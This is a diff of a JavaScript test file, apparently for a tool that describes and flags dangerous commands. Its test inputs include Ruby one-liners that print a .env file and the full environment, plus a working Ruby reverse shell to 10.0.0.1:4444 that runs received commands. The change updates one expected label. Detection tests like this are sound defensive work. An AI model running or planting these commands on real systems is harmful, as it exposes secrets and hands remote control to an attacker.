@@ -38,7 +38,7 @@ describe("what is caught", () => {
     'File.foreach(".env") { |l| puts l }': ["read .env shows"],
     "p ENV.to_h": ["reveal what(* environment body)"],
     'require "socket";c=TCPSocket.new("10.0.0.1",4444);while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end': [
-      "connect tcp://10.0.0.1:4444 tunnel checked",
+      "connect tcp://10.0.0.1:4444 tunnel sends[$(socket().gets) body] checked",
       "runs shell: $(socket().gets)",
       "run sh fetched from[fetched tcp://10.0.0.1:4444]",
       "runs shell from stdin",
